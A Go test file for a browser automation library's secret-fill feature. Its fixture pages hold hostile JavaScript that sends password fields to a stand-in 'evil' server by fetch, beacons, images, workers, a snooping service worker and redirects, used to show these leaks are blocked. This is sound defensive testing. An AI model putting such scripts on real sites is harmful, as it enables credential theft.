package browser

import (
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/cdp/jsonv2"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/target"
	"github.com/stretchr/testify/require"

	"github.com/bctrl-go/bctrl"
)

// hunter is a password with everything that encodings treat apart.
const hunter = `Hunter2 &=+%"\'<é日>`

// login is a password or a code for a site.
func login(field, value string, origins ...string) Fill {
	return Fill{Field: field, Value: bctrl.NewSecret(value), Origins: origins}
}

// requireUnseen fails when a text holds the value in any usual form. It prints
// neither.
func requireUnseen(t *testing.T, value string, texts ...string) {
	t.Helper()
	for i, text := range texts {
		for _, form := range []string{
			value, url.QueryEscape(value), url.PathEscape(value), strings.ToUpper(value),
			base64.StdEncoding.EncodeToString([]byte(value)), fmt.Sprintf("%x", value),
		} {
			require.False(t, strings.Contains(text, form), "text %d holds the value", i)
		}
	}
}

// values reads what scripts of the page see in its inputs.
func values(ctx context.Context, t *testing.T, p *pageSet) string {
	t.Helper()
	current, err := p.current(ctx)
	require.NoError(t, err)
	tree, err := current.frameTree(ctx)
	require.NoError(t, err)
	w, err := world(ctx, tree.top)
	require.NoError(t, err)
	var out string
	require.NoError(t, evaluate(ctx, tree.top, w, &out, `function () {
		return [...document.querySelectorAll('input')].map(i => i.value).join('\n') + '\n' + document.documentElement.outerHTML + '\n' + location.href;
	}`))
	return out
}

// TestFillReachesTheSiteAndNothingElse logs in in every usual way. The site
// receives the value; the page, the model and a client of the protocol do not.
func TestFillReachesTheSiteAndNothingElse(t *testing.T) {
	for _, c := range []struct {
		why, page string
		value     func(received) string
	}{
		{
			why:   "a classic form",
			page:  `<form method=post action=/login><input name=u aria-label=User><input type=password name=p aria-label=Password><button>Log in</button></form>`,
			value: func(r received) string { v, _ := url.ParseQuery(r.body); return v.Get("p") },
		},
		{
			why:   "a form whose controls shadow its properties",
			page:  `<form method=post action=/login><input name=u aria-label=User><input type=password name=p aria-label=Password><input type=hidden name=action value=https://evil.example><input type=hidden name=method><input type=hidden name=elements><button>Log in</button></form>`,
			value: func(r received) string { v, _ := url.ParseQuery(r.body); return v.Get("p") },
		},
		{
			why: "JSON by fetch, with the site's own check of the password",
			page: `<form id=f><input name=u aria-label=User><input type=password id=p aria-label=Password required minlength=8 maxlength=40><button>Log in</button></form><script>
f.onsubmit = e => { e.preventDefault(); const p = document.getElementById('p').value;
if (!/[A-Z]/.test(p) || !/[a-z]/.test(p) || !/[0-9]/.test(p) || !/[^A-Za-z0-9]/.test(p)) return;
fetch('/login', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: JSON.stringify({user: f.u.value, nested: [{password: p}], password_hint: 'none'})}) }</script>`,
			value: func(r received) string {
				return stringAt(r.body, "nested", "password")
			},
		},
		{
			why: "JSON as text by XMLHttpRequest",
			page: `<form id=f><input name=u aria-label=User><input type=password id=p aria-label=Password><button>Log in</button></form><script>
f.onsubmit = e => { e.preventDefault(); const x = new XMLHttpRequest(); x.open('PUT', '/login'); x.send(JSON.stringify({nested: {password: document.getElementById('p').value}})) }</script>`,
			value: func(r received) string { return stringAt(r.body, "nested", "password") },
		},
		{
			why:   "multipart",
			page:  `<form method=post action=/login enctype=multipart/form-data><input name=u aria-label=User><input type=password name=p aria-label=Password><button>Log in</button></form>`,
			value: func(r received) string { return partOf(r, "p") },
		},
		{
			why: "FormData by fetch",
			page: `<form id=f><input name=u aria-label=User><input type=password name=p aria-label=Password><button>Log in</button></form><script>
f.onsubmit = e => { e.preventDefault(); fetch('/login', {method: 'POST', body: new FormData(f)}) }</script>`,
			value: func(r received) string { return partOf(r, "p") },
		},
		{
			why:   "a form that opens a tab",
			page:  `<form method=post action=/login target=_blank><input name=u aria-label=User><input type=password name=p aria-label=Password><button>Log in</button></form>`,
			value: func(r received) string { v, _ := url.ParseQuery(r.body); return v.Get("p") },
		},
		{
			why:   "a frame of the same site",
			page:  `<iframe srcdoc="<form method=post action=/login><input name=u aria-label=User><input type=password name=p aria-label=Password><button>Log in</button></form>"></iframe>`,
			value: func(r received) string { v, _ := url.ParseQuery(r.body); return v.Get("p") },
		},
		{
			why:   "a shadow tree",
			page:  `<div id=host></div><script>const root = host.attachShadow({mode: 'closed'}); root.innerHTML = '<form method=post action=/login><input name=u aria-label=User><input type=password name=p aria-label=Password><button>Log in</button></form>'</script>`,
			value: func(r received) string { v, _ := url.ParseQuery(r.body); return v.Get("p") },
		},
		{
			why: "a service worker in between a form and the site",
			page: `<form method=post action=/login><input name=u aria-label=User><input type=password name=p aria-label=Password><button>Log in</button></form><script>
navigator.serviceWorker.oncontrollerchange = () => fetch('/ping', {method: 'POST', body: 'ping'}).then(() => document.body.append('ready'));
navigator.serviceWorker.register('/sw.js');</script>`,
			value: func(r received) string { v, _ := url.ParseQuery(r.body); return v.Get("p") },
		},
		{
			why: "a worker, with a service worker in between",
			page: `<form id=f><input name=u aria-label=User><input type=password name=p id=p aria-label=Password><button>Log in</button></form><script>
navigator.serviceWorker.oncontrollerchange = () => { self.w = new Worker('/worker.js'); w.onmessage = () => document.body.append('ready'); w.postMessage(['/ping', 'ping']); };
navigator.serviceWorker.register('/sw.js');
f.onsubmit = e => { e.preventDefault(); w.postMessage(['/login', JSON.stringify({nested: {password: document.getElementById('p').value}})]) }</script>`,
			value: func(r received) string { return stringAt(r.body, "nested", "password") },
		},
		{
			why: "a service worker in between",
			page: `<form id=f><input name=u aria-label=User><input type=password name=p aria-label=Password><button>Log in</button></form><script>
navigator.serviceWorker.oncontrollerchange = () => fetch('/ping', {method: 'POST', body: 'ping'}).then(() => document.body.append('ready'));
navigator.serviceWorker.register('/sw.js');
f.onsubmit = e => { e.preventDefault(); fetch('/login', {method: 'POST', body: new URLSearchParams(new FormData(f))}) }</script>`,
			value: func(r received) string { v, _ := url.ParseQuery(r.body); return v.Get("p") },
		},
	} {
		t.Run(c.why, func(t *testing.T) {
			ctx, p, b := openPage(t)
			s := newSite(t, map[string]string{"/": c.page, "/login": "<h1>Welcome</h1>"})
			s.handlers["/sw.js"] = func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Content-Type", "text/javascript")
				_, _ = io.WriteString(w, `self.onactivate = e => e.waitUntil(clients.claim()); self.onfetch = e => {
	const copy = e.request.clone();
	e.respondWith(fetch(e.request)); e.waitUntil(copy.text().then(body => fetch('/stolen', {method: 'PUT', body: 'stolen ' + body})));
}`)
			}
			s.handlers["/worker.js"] = func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Content-Type", "text/javascript")
				_, _ = io.WriteString(w, `onmessage = e => fetch(e.data[0], {method: 'POST', body: e.data[1]}).then(() => postMessage(0))`)
			}
			client := listen(ctx, t, b)
			obs := open(ctx, t, p, s.URL+"/")
			client.attach(ctx, t)
			if strings.Contains(c.page, "serviceWorker") {
				require.Eventually(t, func() bool { return strings.Contains(observe(ctx, t, p).Outline, "ready") }, 10*time.Second, 20*time.Millisecond)
				require.Eventually(t, func() bool { return len(s.to("/stolen")) > 0 }, 10*time.Second, 10*time.Millisecond, "the worker reads what passes")
			}
			require.NoError(t, p.Fill(ctx, find(t, obs, "textbox", "User").Ref, login("username", "bot@example.com", s.URL)))
			require.NoError(t, p.Fill(ctx, find(t, obs, "textbox", "Password").Ref, login("password", hunter, s.URL)))

			filled := observe(ctx, t, p)
			require.Equal(t, "[secret]", find(t, filled, "textbox", "User").Value)
			require.Equal(t, "[secret]", find(t, filled, "textbox", "Password").Value)
			require.NotContains(t, filled.Outline, "bot@example.com")
			requireUnseen(t, hunter, values(ctx, t, p))

			require.NoError(t, p.Click(ctx, find(t, filled, "button", "Log in").Ref))
			require.Eventually(t, func() bool { return len(s.to("/login")) > 0 }, 10*time.Second, 10*time.Millisecond)
			got := s.to("/login")[0]
			require.True(t, hunter == c.value(got), "the site received the value")
			require.Equal(t, int64(len(got.body)), got.length)
			after := settle(ctx, t, p)
			requireUnseen(t, hunter, after.Outline, after.Title, after.URL, values(ctx, t, p), client.all())
			if !strings.Contains(c.page, "_blank") { // it does not know the new tab
				require.NoError(t, p.Goto(ctx, s.URL+"/")) // a request of the page's own, for the client to see
				require.Eventually(t, func() bool { return strings.Contains(client.all(), "Network.requestWillBeSent") }, 10*time.Second, 10*time.Millisecond, "the client listens")
				requireUnseen(t, hunter, client.all())
			}
			for _, r := range s.to("/stolen") {
				requireUnseen(t, hunter, r.body)
			}
		})
	}
}

// TestFillIsRefusedWhereTheLoginDoesNotBelong tries every way around the
// origin.
func TestFillIsRefusedWhereTheLoginDoesNotBelong(t *testing.T) {
	ctx, p, _ := openPage(t)
	const form = `<form method=post><input name=u aria-label=User><input type=password name=p aria-label=Password><button>Log in</button></form>`
	evil := newSite(t, nil)
	s := newSite(t, nil)
	evil.pages = map[string]string{
		"/":       form,
		"/around": `<iframe src="` + s.URL + `/"></iframe>`,
	}
	s.pages = map[string]string{
		"/":        form,
		"/action":  strings.Replace(form, "method=post", `method=post action="`+evil.URL+`/steal"`, 1),
		"/base":    `<base href="` + evil.URL + `/">` + strings.Replace(form, "method=post", `method=post action="steal"`, 1),
		"/button":  strings.Replace(form, "<button>", `<button formaction="`+evil.local()+`/steal" formmethod=post>`, 1),
		"/data":    strings.Replace(form, "method=post", `method=post action="data:text/html,x"`, 1),
		"/broken":  strings.Replace(form, "method=post", `method=post action="http://["`, 1),
		"/inside":  `<iframe src="` + evil.URL + `/"></iframe>`,
		"/other":   `<iframe src="` + s.local() + `/"></iframe>`,
		"/sandbox": `<iframe sandbox="allow-forms allow-scripts" src="/"></iframe>`,
		"/srcdoc":  `<iframe sandbox="allow-forms" srcdoc="<input aria-label=User><input type=password aria-label=Password>"></iframe>`,
		"/dataurl": `<iframe src='data:text/html,` + form + `'></iframe>`,
		"/script":  strings.Replace(form, "method=post", `action="javascript:void 0" method=post`, 1),
	}
	for _, c := range []struct{ url, found, why string }{
		{evil.URL + "/", evil.URL, "another port is another origin"},
		{s.local() + "/", s.local(), "another name is another origin"},
		{evil.URL + "/around", evil.URL, "a hostile page frames the login"},
		{s.URL + "/inside", evil.URL, "the login's page frames a hostile one"},
		{s.URL + "/other", s.local(), "the frame runs in another process"},
		{s.URL + "/action", evil.URL, "the form sends elsewhere"},
		{s.URL + "/base", evil.URL, "the form's address is resolved as the browser does"},
		{s.URL + "/button", evil.local(), "a button sends elsewhere"},
		{s.URL + "/data", "without an origin", "the form sends nowhere that is known"},
		{s.URL + "/broken", "without an origin", "the form's address cannot be read"},
		{s.URL + "/sandbox", "without an origin", "a sandboxed frame has no origin"},
		{s.URL + "/srcdoc", "without an origin", "a sandboxed document has no origin"},
		{s.URL + "/dataurl", "without an origin", "a data: frame has no origin"},
	} {
		obs := open(ctx, t, p, c.url)
		for _, fill := range []Fill{login("username", "bot", s.URL), login("password", hunter, s.URL), {Field: "password", Value: bctrl.NewSecret(hunter), Origins: []string{s.URL}, Direct: true}} {
			role := "User"
			if fill.Field == "password" {
				role = "Password"
			}
			err := p.Fill(ctx, find(t, obs, "textbox", role).Ref, fill)
			refused := new(bctrl.Error)
			require.ErrorAs(t, err, &refused, c.why)
			require.Equal(t, "vault.origin_mismatch", refused.Code, c.why)
			require.Equal(t, 403, refused.Status, c.why)
			require.Contains(t, refused.Message, c.found, c.why)
		}
		requireUnseen(t, hunter, values(ctx, t, p))
		require.NotContains(t, values(ctx, t, p), "bot", c.why)
	}
	require.False(t, p.guards.armed(), "nothing was filled")

	obs := open(ctx, t, p, s.URL+"/script")
	require.NoError(t, p.Fill(ctx, find(t, obs, "textbox", "Password").Ref, login("password", hunter, s.URL)), "a script of the frame itself")
}

// TestFillGoesOnlyIntoTheRightField aims at everything that is not one.
func TestFillGoesOnlyIntoTheRightField(t *testing.T) {
	ctx, p, _ := openPage(t)
	s := newSite(t, map[string]string{"/": `
<input aria-label=text><input type=password aria-label=password><input type=password aria-label=off disabled><input type=password aria-label=fixed readonly>
<textarea aria-label=area></textarea><div contenteditable role=textbox aria-label=rich></div><button>button</button><input type=checkbox aria-label=check>
<input type=password aria-label=short maxlength=3><input type=password aria-label=fussy pattern="[ab]+"><input type=password aria-label=invisible style="opacity:0">
<input aria-label=five maxlength=5>`})
	obs := open(ctx, t, p, s.URL+"/")
	for _, c := range []struct{ role, name, field, code string }{
		{"textbox", "text", "password", "vault.wrong_field"},
		{"textbox", "area", "password", "vault.wrong_field"},
		{"textbox", "rich", "username", "vault.wrong_field"},
		{"button", "button", "password", "vault.wrong_field"},
		{"checkbox", "check", "username", "vault.wrong_field"},
		{"textbox", "password", "username", "vault.wrong_field"},
		{"textbox", "password", "seed", "vault.wrong_field"},
		{"textbox", "off", "password", "page.disabled"},
		{"textbox", "fixed", "password", "page.disabled"},
		{"textbox", "invisible", "password", "vault.wrong_field"},
		{"textbox", "short", "password", "vault.fill_impossible"},
		{"textbox", "fussy", "password", "vault.fill_impossible"},
		{"textbox", "five", "totp", "vault.fill_impossible"},
	} {
		value := hunter
		if c.field == "totp" {
			value = "123456"
		}
		require.ErrorContains(t, p.Fill(ctx, find(t, obs, c.role, c.name).Ref, login(c.field, value, s.URL)), c.code, "%s into %s", c.field, c.name)
	}
	ref := find(t, obs, "textbox", "password").Ref
	require.ErrorContains(t, p.Fill(ctx, ref, login("password", hunter)), "vault.origin_mismatch", "no origins, nowhere")
	require.ErrorContains(t, p.Fill(ctx, ref, login("password", "", s.URL)), "vault.field_empty")
	require.ErrorContains(t, p.Fill(ctx, ref, login("password", "two\nlines", s.URL)), "vault.fill_impossible")
	requireUnseen(t, hunter, values(ctx, t, p))
	require.False(t, p.guards.armed())
}

// TestAPlaceholderIsStoppedOnEveryOtherWay lets a page that was given a
// placeholder send it where it likes.
func TestAPlaceholderIsStoppedOnEveryOtherWay(t *testing.T) {
	ctx, p, _ := openPage(t)
	evil := newSite(t, nil)
	cors := func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Access-Control-Allow-Headers", "*")
	}
	evil.handlers["/steal"] = cors
	const start = `<form id=f method=post action=/login><input type=password name=p id=p aria-label=Password><button>Log in</button></form><p id=out>ready</p><script>
const steal = u => `
	s := newSite(t, map[string]string{
		"/post":   start + `fetch(u, {method: 'POST', body: JSON.stringify({p: p.value})});`,
		"/image":  start + `{ new Image().src = u + '?' + p.value };`,
		"/coded":  start + `{ new Image().src = u + '?' + btoa('x' + p.value) };`,
		"/beacon": start + `navigator.sendBeacon(u, 'p=' + p.value);`,
		"/header": start + `fetch(u, {headers: {'X-P': p.value}});`,
		"/move":   start + `{ location = u + '?' + encodeURIComponent(p.value) };`,
		"/form":   start + `{ f.action = u; f.submit() };`,
		"/get":    start + `{ f.method = 'get'; f.submit() };`,
		"/worker": start + `new Worker(URL.createObjectURL(new Blob(['onmessage = e => fetch(e.data.u, {method: "POST", body: e.data.p})']))).postMessage({u, p: p.value});`,
		"/frame":  start + `{ const i = document.createElement('iframe'); i.src = u + '?' + p.value; document.body.append(i) };`,
		"/inside": start + `fetch('/login', {method: 'POST', headers: {'Content-Type': 'text/xml'}, body: '<p>' + p.value + '</p>'});`,
		"/wrap":   start + `fetch('/login', {method: 'POST', body: JSON.stringify({all: 'p=' + p.value})});`,
		"/basic":  start + `fetch('/login', {method: 'POST', headers: {Authorization: 'Basic ' + btoa('u:' + p.value)}});`,
		"/key":    start + `fetch('/login', {method: 'POST', body: JSON.stringify({[p.value]: 1})});`,
	})
	for path := range s.pages {
		s.pages[path] += "</script><button onclick=\"steal('" + evil.URL + "/steal')\">Steal</button>"
	}
	for path := range s.pages {
		obs := open(ctx, t, p, s.URL+path)
		require.NoError(t, p.Fill(ctx, find(t, obs, "textbox", "Password").Ref, login("password", hunter, s.URL)), path)
		placeholder, _, _ := strings.Cut(values(ctx, t, p), "\n")
		require.GreaterOrEqual(t, len(placeholder), 16, path)
		require.NoError(t, p.Click(ctx, find(t, obs, "button", "Steal").Ref), path)
		blocked := false
		require.Eventually(t, func() bool {
			blocked = blocked || strings.Contains(observe(ctx, t, p).Outline, "note: blocked: ")
			return blocked
		}, 10*time.Second, 20*time.Millisecond, path)
		for _, text := range []string{evil.everything(), fmt.Sprint(s.to("/login")), fmt.Sprint(s.to(path)[1:])} {
			require.False(t, strings.Contains(text, placeholder), path)
			require.False(t, strings.Contains(text, base64.StdEncoding.EncodeToString([]byte("x"+placeholder))), path)
			requireUnseen(t, hunter, text)
		}
	}
}

// TestASwappedRequestIsNotRedirectedAway answers a login with redirects.
func TestASwappedRequestIsNotRedirectedAway(t *testing.T) {
	ctx, p, _ := openPage(t)
	evil := newSite(t, map[string]string{"/steal": "stolen"})
	s := newSite(t, map[string]string{
		"/form":  `<form method=post action=/away><input type=password name=p aria-label=Password><button>Log in</button></form>`,
		"/fetch": `<form id=f><input type=password name=p aria-label=Password><button>Log in</button></form><script>f.onsubmit = e => { e.preventDefault(); fetch('/away', {method: 'POST', mode: 'no-cors', body: new URLSearchParams(new FormData(f))}) }</script>`,
		"/near":  `<form method=post action=/moved><input type=password name=p aria-label=Password><button>Log in</button></form>`,
		"/there": "<h1>Welcome</h1>",
	})
	s.handlers["/away"] = func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, evil.URL+"/steal", http.StatusTemporaryRedirect)
	}
	s.handlers["/moved"] = func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "/there", http.StatusPermanentRedirect)
	}
	for _, path := range []string{"/form", "/fetch"} {
		obs := open(ctx, t, p, s.URL+path)
		require.NoError(t, p.Fill(ctx, find(t, obs, "textbox", "Password").Ref, login("password", hunter, s.URL)))
		require.NoError(t, p.Click(ctx, find(t, obs, "button", "Log in").Ref))
		require.Eventually(t, func() bool { return strings.Contains(observe(ctx, t, p).Outline, "a redirect that would take") }, 10*time.Second, 20*time.Millisecond, path)
		require.Empty(t, evil.to("/steal"), path)
	}
	require.Len(t, s.to("/away"), 2)

	obs := open(ctx, t, p, s.URL+"/near")
	require.NoError(t, p.Fill(ctx, find(t, obs, "textbox", "Password").Ref, login("password", hunter, s.URL)))
	require.NoError(t, p.Click(ctx, find(t, obs, "button", "Log in").Ref))
	require.Contains(t, settle(ctx, t, p).Outline, "Welcome")
	there := s.to("/there")
	require.Len(t, there, 1)
	got, err := url.ParseQuery(there[0].body)
	require.NoError(t, err)
	require.True(t, got.Get("p") == hunter, "a redirect within the site takes the value along")
}

// TestEchoedSecretsAreScrubbed shows a password in a page in every way that a
// careless site may, and takes a picture of it.
func TestEchoedSecretsAreScrubbed(t *testing.T) {
	ctx, p, _ := openPage(t)
	const secret = "correct-Horse_7.battery"
	s := newSite(t, map[string]string{"/": `<form method=post action=/login><input type=password name=p aria-label=Password><button>Log in</button></form>`})
	s.handlers["/login"] = func(w http.ResponseWriter, r *http.Request) {
		_ = r.ParseForm()
		pw := r.PostForm.Get("p")
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprintf(w, `<title>Wrong: %[1]s</title><p>Wrong password %[1]s.</p><p>Split <b>correct-Horse</b>_7.battery</p><p style="text-transform:uppercase">%[1]s</p>
<input aria-label="Tried %[1]s" value="%[1]s"><button>Forget %[1]s</button><p>%[2]s</p><a href="?p=%[1]s">again</a><select aria-label=Old><option>%[1]s</select><img alt="%[1]s"><script>history.replaceState(0, '', '?p=%[1]s'); if (!sessionStorage.x) alert('%[1]s')</script>`,
			pw, base64.StdEncoding.EncodeToString([]byte("user:"+pw)))
	}
	obs := open(ctx, t, p, s.URL+"/")
	require.NoError(t, p.Fill(ctx, find(t, obs, "textbox", "Password").Ref, login("password", secret, s.URL)))
	require.NoError(t, p.Click(ctx, find(t, obs, "button", "Log in").Ref))
	obs = settle(ctx, t, p)
	requireUnseen(t, secret, obs.Outline, obs.URL, obs.Title, fmt.Sprint(obs.Elements))
	require.GreaterOrEqual(t, strings.Count(obs.Outline, "[secret]"), 8)
	require.Contains(t, obs.Outline, "Wrong password [secret].")
	require.Equal(t, "Wrong: [secret]", obs.Title)

	shot, err := p.Screenshot(ctx, false)
	require.NoError(t, err)
	require.Greater(t, masked(t, shot), 5000, "the echoes are painted over")

	err = p.Click(ctx, "e1")
	require.Error(t, err)
	requireUnseen(t, secret, err.Error())
}

// TestDirectFillTypesTheValueAndGuardsIt opts out of the swap.
func TestDirectFillTypesTheValueAndGuardsIt(t *testing.T) {
	ctx, p, _ := openPage(t)
	evil := newSite(t, nil)
	s := newSite(t, map[string]string{"/": `<form id=f onsubmit="event.preventDefault(); fetch('/login', {method: 'POST', body: '<xml>' + p.value + '</xml>'})"><input type=password id=p aria-label=Password><button>Log in</button></form>
<button onclick="fetch('` + evil.URL + `/steal', {method: 'POST', mode: 'no-cors', body: p.value})">Steal</button><button onclick="p.type = 'text'">Show</button><input id=copy aria-label=Copy><button onclick="copy.value = p.value">Move</button>`})
	obs := open(ctx, t, p, s.URL+"/")
	fill := login("password", hunter, s.URL)
	fill.Direct = true
	require.NoError(t, p.Fill(ctx, find(t, obs, "textbox", "Password").Ref, fill))
	seen, _, _ := strings.Cut(values(ctx, t, p), "\n")
	require.True(t, seen == hunter, "the page holds the value")
	require.Empty(t, find(t, observe(ctx, t, p), "textbox", "Copy").Value, "an empty field says so, or nobody would fill it")

	before, err := p.Screenshot(ctx, true)
	require.NoError(t, err)
	require.NoError(t, p.Click(ctx, find(t, obs, "button", "Show").Ref))
	shown := observe(ctx, t, p)
	requireUnseen(t, hunter, shown.Outline, fmt.Sprint(shown.Elements))
	require.Equal(t, "[secret]", find(t, shown, "textbox", "Password").Value)
	after, err := p.Screenshot(ctx, true)
	require.NoError(t, err)
	require.Greater(t, masked(t, before), 1000)
	require.Greater(t, masked(t, after), 1000)

	// The page moves the value to another field, and the model edits it there.
	require.NoError(t, p.Click(ctx, find(t, obs, "button", "Move").Ref))
	moved := find(t, observe(ctx, t, p), "textbox", "Copy")
	require.Equal(t, "[secret]", moved.Value)
	require.NoError(t, p.Click(ctx, moved.Ref))
	for _, key := range []string{"End", "Backspace", "Home", "x"} {
		require.NoError(t, p.Press(ctx, key))
	}
	require.Equal(t, "[secret]", find(t, observe(ctx, t, p), "textbox", "Copy").Value)
	for _, key := range []string{"Control+c", "Control+Shift+X", "Meta+v", "Control+z"} {
		require.ErrorContains(t, p.Press(ctx, key), "page.key_refused", key)
	}
	require.NoError(t, p.Type(ctx, moved.Ref, "my own text"))
	require.Equal(t, "my own text", find(t, observe(ctx, t, p), "textbox", "Copy").Value)
	require.NoError(t, p.Click(ctx, find(t, obs, "button", "Move").Ref))
	require.NoError(t, p.Click(ctx, moved.Ref))
	for range len([]rune(hunter)) - 3 {
		require.NoError(t, p.Press(ctx, "Backspace"))
	}
	require.Equal(t, "[secret]", find(t, observe(ctx, t, p), "textbox", "Copy").Value, "nor where the model has written before")

	require.NoError(t, p.Click(ctx, find(t, obs, "button", "Steal").Ref))
	require.Contains(t, settle(ctx, t, p).Outline, "note: blocked: ")
	require.Empty(t, evil.to("/steal"))
	require.NoError(t, p.Click(ctx, find(t, obs, "button", "Log in").Ref))
	require.Eventually(t, func() bool { return len(s.to("/login")) == 1 }, 10*time.Second, 10*time.Millisecond)
	require.True(t, s.to("/login")[0].body == "<xml>"+hunter+"</xml>", "the site received the value as its page wrote it")
}

// TestInterceptionEndsWithItsReason counts on requests not being held up for
// ever after a login.
func TestInterceptionEndsWithItsReason(t *testing.T) {
	ctx, p, _ := openPage(t)
	s := newSite(t, map[string]string{"/": `<form method=post action=/login><input type=password name=p aria-label=Password><button>Log in</button></form>`, "/login": "<h1>Welcome</h1>"})
	obs := open(ctx, t, p, s.URL+"/")
	require.NoError(t, p.Fill(ctx, find(t, obs, "textbox", "Password").Ref, login("password", hunter, s.URL)))
	require.True(t, p.guards.armed())
	require.NoError(t, p.Click(ctx, find(t, obs, "button", "Log in").Ref))
	require.Contains(t, settle(ctx, t, p).Outline, "Welcome")
	require.Eventually(t, func() bool { return !p.guards.armed() }, 10*time.Second, 20*time.Millisecond, "the document is gone")
}

// TestLoginGoesOverSeveralPages fills a name, a password and a code on pages
// of their own.
func TestLoginGoesOverSeveralPages(t *testing.T) {
	ctx, p, _ := openPage(t)
	step := func(next, input string) string {
		return `<form method=post action=` + next + `>` + input + `<button>Next</button></form>`
	}
	s := newSite(t, map[string]string{
		"/":         step("/password", `<input type=email name=u aria-label=Email>`),
		"/password": step("/code", `<input type=password name=p aria-label=Password>`),
		"/code":     step("/done", `<input name=c aria-label=Code maxlength=6>`),
		"/done":     "<h1>Welcome</h1>",
	})
	obs := open(ctx, t, p, s.URL+"/")
	for _, fill := range []Fill{login("username", "bot@example.com", s.URL), login("password", hunter, s.URL), login("totp", "123456", s.URL)} {
		require.NoError(t, p.Fill(ctx, obs.Elements[0].Ref, fill))
		require.NoError(t, p.Press(ctx, "Enter"))
		obs = settle(ctx, t, p)
	}
	require.Contains(t, obs.Outline, "Welcome")
	require.True(t, s.to("/password")[0].body == "u=bot%40example.com")
	require.True(t, s.to("/code")[0].body == "p="+url.QueryEscape(hunter))
	require.True(t, s.to("/done")[0].body == "c=123456")
	for _, r := range s.seen {
		requireUnseen(t, hunter, r.query, r.referer, r.path)
	}
}

// eavesdropper is a second client of the browser that records all it is told.
type eavesdropper struct {
	conn   *pageConn
	events chan string
	told   []string
}

// listen attaches a client beside the page's own.
func listen(ctx context.Context, t *testing.T, b *chromium) *eavesdropper {
	t.Helper()
	client, err := b.mux.attach(ctx)
	require.NoError(t, err)
	life, cancel := context.WithCancel(ctx)
	e := &eavesdropper{events: make(chan string, 1<<16)}
	e.conn = newPageConn(life, client, func(_ target.SessionID, method string, params jsonv2.Value) {
		select {
		case e.events <- method + " " + string(params):
		default:
		}
	})
	t.Cleanup(func() { cancel(); <-e.conn.done })
	return e
}

// attach listens to the network of every page.
func (e *eavesdropper) attach(ctx context.Context, t *testing.T) {
	t.Helper()
	root := e.conn.root()
	got, err := callOn(ctx, root, target.GetTargets, target.GetTargetsParams{})
	require.NoError(t, err)
	flat := true
	for _, info := range got.TargetInfos {
		if info.Type != "page" {
			continue
		}
		at, err := callOn(ctx, root, target.AttachToTarget, target.AttachToTargetParams{TargetID: info.TargetID, Flatten: &flat})
		require.NoError(t, err)
		s := link{e.conn, at.SessionID}
		require.NoError(t, tell(ctx, s, network.Enable, network.EnableParams{}))
		require.NoError(t, s.call(ctx, "Page.enable", cdp.Empty{}, nil))
		require.NoError(t, s.call(ctx, "Runtime.enable", cdp.Empty{}, nil))
	}
}

// all returns what was heard until now.
func (e *eavesdropper) all() string {
	for {
		select {
		case event := <-e.events:
			e.told = append(e.told, event)
		default:
			return strings.Join(e.told, "\n")
		}
	}
}
